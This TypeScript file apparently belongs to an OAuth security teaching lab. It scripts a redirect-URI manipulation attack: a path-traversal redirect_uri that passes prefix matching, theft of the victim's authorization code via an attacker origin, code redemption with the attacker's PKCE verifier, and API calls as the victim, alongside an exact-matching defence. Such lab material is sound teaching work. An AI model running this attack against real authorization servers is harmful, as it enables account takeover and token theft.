/**
 * Redirect URI manipulation: the attacker sends the victim an authorization request whose
 * redirect_uri passes a loose comparison but leads to him, and the server delivers her code there.
 * @see [RFC 9700 §4.1](https://www.rfc-editor.org/rfc/rfc9700#section-4.1)
 * @see [RFC 8252 §8.4](https://www.rfc-editor.org/rfc/rfc8252#section-8.4)
 */
import { rfc } from '../shared/spec-links.ts'
import { attackActors, defineAttack } from './attack-model.ts'
import {
  attackerCallbackUri,
  callApi,
  callbackUri,
  discoverServer,
  serverRefusal,
  signIn,
  startLogin,
  stolenToken,
  waitForAttackerRecord,
} from './lab-client.ts'

const attackId = 'redirect-uri-manipulation'
const scope = 'profile email orders:read'

/**
 * Starts with the registered URI, so a prefix check passes it; the browser resolves the dot
 * segments and lands on the attacker's server. Wildcard hosts and any-port loopback rules for web
 * clients fail the same way: each accepts an address the client never registered.
 */
export function manipulatedRedirectUri(registered: string, attackerOrigin: string): string {
  const depth = new URL(registered).pathname.split('/').filter(Boolean).length
  const target = new URL(attackerCallbackUri(attackerOrigin)).pathname.slice(1)
  return `${registered}/${'../'.repeat(depth)}${target}`
}

export const redirectUriManipulationAttack = defineAttack({
  id: attackId,
  title: 'Redirect URI manipulation',
  goal: 'Have the authorization server deliver the victim’s code to the attacker, through a redirect_uri that a loose comparison lets pass.',
  summary:
    'The attacker builds an authorization request for the app himself, with his own PKCE verifier, and a redirect_uri that begins with the registered one but, once the browser resolves it, leads to his server. He gets Alice to open it. If the server only checks that the address starts like a registered one, it sends Alice’s code to the attacker, who redeems it: PKCE does not help, the verifier is his.',
  specs: [rfc(9700, '4.1'), rfc(9700, '4.1.3'), rfc(9700, '2.1'), rfc(8252, '8.4')],
  actors: [attackActors.victim, attackActors.attacker, attackActors.as, attackActors.rs],
  defence: {
    label: 'Defence: exact redirect URI matching',
    explanation:
      'The server compares redirect_uri with the registered ones as plain strings, character for character. The manipulated address is not one of them, so the server shows an error page and redirects nowhere. Only a native app’s loopback address may differ, and only in its port (RFC 8252 §7.3).',
    spec: rfc(9700, '4.1.3'),
    side: 'server',
    whenOff:
      'The app is grantlab-lax-redirects, a demo client for which this server accepts any redirect_uri that starts with a registered one. Every other client gets the exact comparison.',
  },
  clients: [
    {
      clientId: 'grantlab-lax-redirects',
      when: 'defence-off',
      note: 'WEAKENED: redirect URIs compared by prefix.',
    },
    {
      clientId: 'grantlab-lab-spa',
      when: 'defence-on',
      note: 'Its unweakened twin: a public, first-party app.',
    },
  ],
  steps: [
    {
      id: 'attacker-crafts',
      label: 'bob builds the link',
      title: 'The attacker builds an authorization request with a manipulated redirect_uri',
      from: 'attacker',
      to: 'attacker',
      kind: 'local',
      spec: rfc(9700, '4.1.1'),
      explanation:
        'The request is the app’s own (its client_id, its scopes), with the attacker’s state and PKCE challenge, and a redirect_uri made of the registered one plus "/../../../attacker/callback".',
    },
    {
      id: 'victim-opens-link',
      label: 'alice opens the link, signs in',
      title: 'Alice opens the link and signs in',
      from: 'victim',
      to: 'as',
      kind: 'redirect',
      spec: rfc(6749, '3.1.2.2'),
      explanation:
        'The page is the real server’s and the app is one she knows, so she signs in. (Already signed in, with consent remembered, she would not even see a page.) This is where the server decides whether the redirect_uri is one the app registered.',
    },
    {
      id: 'code-to-attacker',
      label: '302 → /attacker/callback?code',
      title: 'The server sends Alice’s code to the attacker',
      from: 'as',
      to: 'attacker',
      kind: 'redirect',
      spec: rfc(9700, '4.1.1'),
      explanation:
        'The server redirects Alice’s browser to the redirect_uri it accepted. The browser resolves the dot segments and lands on the attacker’s server, which records the code.',
    },
    {
      id: 'attacker-redeems',
      label: 'POST /token (code, his verifier)',
      title: 'The attacker redeems the code with his own verifier',
      from: 'attacker',
      to: 'as',
      kind: 'request',
      spec: rfc(7636, '4.5'),
      explanation:
        'The code is bound to the attacker’s challenge, because the attacker wrote the request, so his verifier redeems it. The redirect_uri must repeat the one of the request, and he knows it.',
    },
    {
      id: 'attacker-uses',
      label: 'GET /api/profile as alice',
      title: 'The attacker calls the API as Alice',
      from: 'attacker',
      to: 'rs',
      kind: 'request',
      spec: rfc(6750, '2.1'),
      explanation: 'The tokens are Alice’s.',
    },
  ],
  async run(ctx) {
    const clientId = ctx.defence ? 'grantlab-lab-spa' : 'grantlab-lax-redirects'
    const registered = callbackUri(ctx.appOrigin, attackId)
    const redirectUri = manipulatedRedirectUri(registered, ctx.attackerOrigin)
    const since = ctx.now()
    const { as, bob } = await ctx.step('attacker-crafts', async (s) => {
      const as = await discoverServer(s, ctx.issuer)
      const bob = await startLogin(as, {
        clientId,
        redirectUri,
        scope,
        state: true,
        pkce: true,
        prompt: 'login',
      })
      s.show({ label: 'A redirect URI the app registered', value: registered })
      s.show({ label: 'The redirect_uri the attacker puts in', value: redirectUri })
      s.show({
        label: 'Where a browser takes it',
        value: new URL(redirectUri).href,
        note: 'The URL parser removes the dot segments.',
      })
      s.show({ label: 'The link the attacker sends Alice', value: bob.url, format: 'url' })
      s.summary('The attacker has a link that looks like the app’s own sign-in.')
      return { as, bob }
    })
    await ctx.step('victim-opens-link', async (s) => {
      const first = await ctx.victim.open(bob.url, s)
      const refused = serverRefusal(first)
      if (refused) {
        throw ctx.stopped(refused, {
          check: 'exact redirect URI match',
          spec: rfc(9700, '4.1.3'),
          by: 'authorization server',
          expected: { code: 'invalid_request', text: /does not exactly match/ },
        })
      }
      const page = await signIn(ctx.victim, first, s, 'alice')
      if (page.url !== undefined) {
        throw new Error(`Alice’s browser stayed on ${page.url}, not on the attacker’s server.`)
      }
      s.summary('Alice signed in; her browser left for another site.')
    })
    const code = await ctx.step('code-to-attacker', async (s) => {
      const record = await waitForAttackerRecord(
        s,
        ctx.attackerOrigin,
        since,
        // The answer to his own request: it carries his state.
        (r) =>
          r.channel === 'redirect' &&
          new URL(r.url).searchParams.get('state') === bob.state &&
          r.url.includes('code='),
      )
      const code = new URL(record.url).searchParams.get('code') ?? ''
      s.show({ label: 'What the attacker’s server received', value: record.url, format: 'url' })
      s.summary('The attacker’s server has Alice’s code.')
      return code
    })
    const tokens = await ctx.step('attacker-redeems', async (s) => {
      const response = await s.fetch(String(as.token_endpoint), {
        method: 'POST',
        body: new URLSearchParams({
          grant_type: 'authorization_code',
          code,
          code_verifier: bob.verifier ?? '',
          redirect_uri: redirectUri,
          client_id: clientId,
        }),
      })
      const body = (await response.json()) as { access_token?: string }
      if (!response.ok || !body.access_token) {
        throw new Error(`The server refused the code (${response.status}).`)
      }
      s.summary('The server exchanged the code for the attacker: Alice’s tokens.')
      return { access_token: body.access_token }
    })
    const profile = await ctx.step('attacker-uses', async (s) => {
      const answer = await callApi(s, ctx.appOrigin, '/api/profile', tokens.access_token)
      s.show({ label: 'The API’s answer', value: JSON.stringify(answer.body), format: 'json' })
      s.summary(`The API answered ${answer.status} with Alice’s profile.`)
      return answer.body
    })
    return {
      status: 'succeeded',
      summary: 'The server delivered Alice’s code to the attacker’s server.',
      loot: {
        summary: 'Alice’s tokens, redeemed by the attacker with his own PKCE verifier.',
        tokens: [stolenToken('Alice’s access token', tokens.access_token)],
        values: [
          { label: 'Alice’s profile', value: JSON.stringify(profile), format: 'json' },
          { label: 'The redirect_uri that passed', value: redirectUri },
        ],
      },
    }
  },
})
